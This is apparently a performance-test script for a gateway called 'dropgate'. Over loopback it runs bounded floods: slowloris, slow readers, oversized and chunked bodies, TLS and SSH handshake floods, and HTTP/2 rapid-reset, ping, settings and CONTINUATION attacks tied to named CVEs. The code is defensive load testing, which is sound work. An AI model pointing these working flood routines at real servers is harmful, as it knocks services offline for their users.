#!/usr/bin/env python3
"""What strangers do to a gate, and what one listed source does to another: bounded in time and in number.

    Tests/Performance/attacks.py NAME PORT SECONDS      prints how many attempts it made

The quickest are in clients/strangers.c. All run where the processor has nothing else to do, so that a flood takes from the
gate what the gate gives it, and not what the attacker's own work takes. Loopback only.
"""
import itertools
import os
import select
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass

HERE = os.path.dirname(os.path.abspath(__file__))
LISTED, OTHER = "127.0.0.2", "127.0.0.3"  # the client that is measured, and a listed source that floods
BIND_ADDRESS_NO_PORT = 24  # ip(7)
MOST = 1_000_000_000  # attempts of one worker, frames and requests too


class Caller:
    """One worker of a flood: makes connections from its own addresses until the time is over."""

    addresses = itertools.count()

    def __init__(self, port, until, listed):
        self.port, self.until, self.listed, self.attempts = port, until, listed, 0

    @property
    def left(self):
        return self.until - time.monotonic()

    def source(self):
        if self.listed:
            return OTHER
        number = next(self.addresses) % 10_000
        return f"127.{64 + number // 65536}.{number // 256 % 256}.{number % 256}"

    def connect(self, source=None):
        caller = socket.socket()
        try:
            caller.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            caller.setsockopt(socket.IPPROTO_IP, BIND_ADDRESS_NO_PORT, 1)
            caller.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            caller.settimeout(5)
            caller.bind((source or self.source(), 0))
            caller.connect(("127.0.0.1", self.port))
        except OSError:
            caller.close()
            raise
        self.attempts += 1
        return caller

    def tls(self, protocol="http/1.1"):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols([protocol])
        caller = self.connect()
        try:
            return context.wrap_socket(caller)
        except OSError:
            caller.close()
            raise

    def hold(self, caller, most=60):
        """Keeps a connection, reading nothing, until the other side ends it."""
        watched = select.poll()
        watched.register(caller, select.POLLRDHUP)
        watched.poll(max(0, min(self.left, most)) * 1000)

    def push(self, caller, bytes, attempts=0):
        """Sends the same again and again, and reads what comes, until the other side ends it."""
        while self.left > 0 and self.attempts < MOST:
            caller.sendall(bytes)
            self.attempts += attempts
            while select.select([caller], [], [], 0)[0]:
                if not caller.recv(1 << 16):
                    return


def hello():
    """A ClientHello."""
    outgoing = ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        context.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()


# Connections ----------------------------------------------------------------------------------------------------

def idle(caller):
    """Nothing is ever sent."""
    with caller.connect() as held:
        caller.hold(held)


def half_handshake(caller):
    """A ClientHello without its end, or one to whose answer nothing is said."""
    with caller.connect() as held:
        held.sendall(hello()[:None if caller.attempts % 2 else 100])
        caller.hold(held)


def handshake(caller):
    """A whole handshake, and goodbye."""
    caller.tls().close()


def silent_handshake(caller):
    """A whole handshake, then nothing."""
    with caller.tls() as held:
        caller.hold(held)


# HTTP/1.1 -------------------------------------------------------------------------------------------------------

def slow_head(caller):
    """A request's head, a byte every tenth of a second (slowloris)."""
    with caller.tls() as held:
        held.sendall(b"POST /webhooks/vsee HTTP/1.1\r\nHost: gate\r\nX-Slow: ")
        while caller.left > 0:
            held.sendall(b"a")
            caller.hold(held, 0.1)


def slow_reader(caller):
    """Requests one after the other whose answers are never read."""
    with caller.tls() as held:
        held.settimeout(1)
        try:
            while caller.left > 0:
                held.sendall(b"GET / HTTP/1.1\r\nHost: gate\r\n\r\n" * 100)
                caller.attempts += 100
        except TimeoutError:
            caller.hold(held)


def blank_lines(caller):
    """Line ends before a request that never comes (RFC 9112, 2.2 lets a server ignore some)."""
    with caller.tls() as held:
        caller.push(held, b"\r\n" * 8192)


def refused_requests(caller):
    """A request that is answered 403, from ever another address."""
    with caller.tls() as held:
        held.sendall(b"POST /webhooks/vsee HTTP/1.1\r\nHost: gate\r\nContent-Length: 2\r\n\r\n{}")
        held.recv(1 << 16)


def body(caller):
    """A body that lacks its last byte, as large as the gate lets it be."""
    size = 10 << 20 if caller.listed else 256 << 10
    with caller.tls() as held:
        held.sendall(b"POST /webhooks/vsee/%s HTTP/1.1\r\nHost: gate\r\nContent-Length: %d\r\n\r\n" % (b"s" * 32, size))
        for _ in range(0, size - (64 << 10), 64 << 10):
            held.sendall(bytes(64 << 10))
        held.sendall(bytes((64 << 10) - 1))
        caller.hold(held)


def tiny_chunks(caller):
    """A body in chunks of one byte (RFC 9112, 7.1)."""
    with caller.tls() as held:
        held.sendall(b"POST /webhooks/vsee/%s HTTP/1.1\r\nHost: gate\r\nTransfer-Encoding: chunked\r\n\r\n" % (b"s" * 32))
        caller.push(held, b"1\r\na\r\n" * 2048)


# HTTP/2 (RFC 9113) ----------------------------------------------------------------------------------------------

DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
# HPACK (RFC 7541): POST, https, the path and the authority as literals.
FIELDS = b"\x83\x87\x44\x0e/webhooks/vsee\x41\x04gate"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def http2(caller):
    held = caller.tls("h2")
    held.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    return held


def rapid_reset(caller):
    """Requests that are taken back at once (CVE-2023-44487)."""
    with http2(caller) as held:
        for stream in range(1, 1 << 31, 200):
            if caller.left <= 0 or caller.attempts > MOST:
                return
            held.sendall(b"".join(
                frame(HEADERS, 4, each, FIELDS) + frame(RESET, 0, each, struct.pack(">I", 8))
                for each in range(stream, stream + 200, 2)))
            caller.attempts += 100
            while select.select([held], [], [], 0)[0]:
                if not held.recv(1 << 16):
                    return


def settings(caller):
    """Settings, each of which must be acknowledged (CVE-2019-9515)."""
    with http2(caller) as held:
        caller.push(held, frame(SETTINGS, 0, 0) * 200, 200)


def pings(caller):
    """Pings, each of which must be answered (CVE-2019-9512)."""
    with http2(caller) as held:
        caller.push(held, frame(PING, 0, 0, bytes(8)) * 200, 200)


def empty_frames(caller):
    """Data without bytes, and without an end (CVE-2019-9518)."""
    with http2(caller) as held:
        held.sendall(frame(HEADERS, 4, 1, FIELDS))
        caller.push(held, frame(DATA, 0, 1) * 200, 200)


def continuations(caller):
    """Headers that never end (CVE-2024-27316)."""
    with http2(caller) as held:
        held.sendall(frame(HEADERS, 0, 1, FIELDS))
        caller.push(held, frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100) * 10, 10)


# SSH ------------------------------------------------------------------------------------------------------------

def ssh_handshake(caller):
    """A whole key exchange, then no login. An unlisted source does not get as far, so a listed one does it."""
    caller.attempts += 1
    with tempfile.NamedTemporaryFile() as hosts:
        subprocess.run(
            ["ssh", "-F", "none", "-b", OTHER, "-p", str(caller.port), "-o", "BatchMode=yes", "-o",
             "StrictHostKeyChecking=no", "-o", f"UserKnownHostsFile={hosts.name}", "-o", "PreferredAuthentications=none",
             "stranger@127.0.0.1"],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            timeout=max(1, caller.left + 5), check=False)


# The floods -----------------------------------------------------------------------------------------------------

@dataclass
class Flood:
    # A function here, or the words of strangers.c: its mode, threads, the first address and their number.
    attack: object
    workers: int = 1
    # What the gate does with unlisted sources.
    unlisted: str = "refuse"
    channel: str = "webhook"
    # The flood comes from a listed source.
    listed: bool = False


FLOODS = {
    "refused at accept": Flood(("refused", 4, "127.0.1.1", 1), unlisted="close"),
    "reset at once": Flood(("reset", 4, "127.0.1.2", 1), unlisted="close"),
    "10,000 addresses": Flood(("refused", 4, "127.64.0.0", 10_000), unlisted="close"),
    "SFTP refused at accept": Flood(("refused", 4, "127.0.1.3", 1), unlisted="close", channel="sftp"),
    "SFTP 10,000 addresses": Flood(("reset", 4, "127.64.0.0", 10_000), unlisted="close", channel="sftp"),
    "SFTP idle, listed": Flood(idle, 32, unlisted="close", channel="sftp", listed=True),
    "SSH handshakes, listed": Flood(ssh_handshake, 4, unlisted="close", channel="sftp", listed=True),
    "reset at once, answered": Flood(("reset", 4, "127.0.1.4", 1)),
    "idle": Flood(idle, 300),
    "idle, listed": Flood(idle, 300, listed=True),
    "half handshakes": Flood(half_handshake, 150),
    "handshakes": Flood(handshake, 4),
    "handshakes, then nothing": Flood(silent_handshake, 150),
    "slow heads": Flood(slow_head, 100),
    "slow readers": Flood(slow_reader, 32),
    "blank lines": Flood(blank_lines, 4),
    "refused requests": Flood(refused_requests, 4),
    "HTTP/2 rapid reset": Flood(rapid_reset, 4),
    "HTTP/2 settings": Flood(settings, 4),
    "HTTP/2 pings": Flood(pings, 4),
    "HTTP/2 empty frames": Flood(empty_frames, 4),
    "HTTP/2 continuations": Flood(continuations, 4),
    "bodies, unlisted": Flood(body, 150, unlisted="quarantine"),
    "bodies, listed": Flood(body, 40, unlisted="quarantine", listed=True),
    "tiny chunks, unlisted": Flood(tiny_chunks, 4, unlisted="quarantine"),
    "tiny chunks, listed": Flood(tiny_chunks, 4, unlisted="quarantine", listed=True),
}


class IdleGroup:
    """Where attackers run: a control group that gets the processor when nobody else wants it (cpu.idle of cgroups(7)).

    SCHED_IDLE alone (sched(7)) is by thread: a thousand such threads weigh as much as three of the gate's. Where the group
    cannot be made, `is_whole` is false and SCHED_IDLE is all there is.
    """

    def __init__(self):
        self.path = next(filter(self.make, ("/sys/fs/cgroup/cpu", "/sys/fs/cgroup")), None)
        self.is_whole = self.path is not None
        if self.is_whole:
            self.path = self.name(self.path)

    @staticmethod
    def name(parent):
        return os.path.join(parent, f"dropgate-floods-{os.getpid()}")

    def make(self, parent):
        try:
            os.mkdir(self.name(parent))
        except OSError:
            return False
        try:
            with open(os.path.join(self.name(parent), "cpu.idle"), "r+") as idle:
                idle.write("1")
            return True
        except OSError:
            os.rmdir(self.name(parent))
            return False

    def enter(self):
        """Of the calling process, and what it starts."""
        if self.is_whole:
            with open(os.path.join(self.path, "cgroup.procs"), "w") as processes:
                processes.write("0")
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))

    def close(self):
        """Once its processes have ended; the kernel may take a moment longer than wait(2)."""
        until = time.monotonic() + 10
        while self.is_whole:
            try:
                return os.rmdir(self.path)
            except OSError:
                if time.monotonic() > until:
                    raise
                time.sleep(0.05)


def start(name, ports, seconds, strangers, group):
    """A flood at work; its standard output is the number of attempts. `strangers`: the program made of strangers.c."""
    flood = FLOODS[name]
    port = str(ports[flood.channel])
    if callable(flood.attack):
        command = [sys.executable, os.path.abspath(__file__), name, port, str(seconds)]
    else:
        mode, threads, first, number = flood.attack
        command = [strangers, mode, port, str(seconds), str(threads), first, str(number)]
    return subprocess.Popen(command, stdout=subprocess.PIPE, text=True, preexec_fn=group.enter)


def work(attack, caller):
    while caller.left > 0 and caller.attempts < MOST:
        try:
            attack(caller)
        except (OSError, subprocess.TimeoutExpired):
            time.sleep(max(0, min(0.01, caller.left)))


def main():
    name, port, seconds = sys.argv[1:]
    flood, until = FLOODS[name], time.monotonic() + float(seconds)
    callers = [Caller(int(port), until, flood.listed) for _ in range(flood.workers)]
    # What blocks at the end of the time is cut off with the process.
    threads = [threading.Thread(target=work, args=(flood.attack, caller), daemon=True) for caller in callers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0, until + 1 - time.monotonic()))
    print(sum(caller.attempts for caller in callers), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
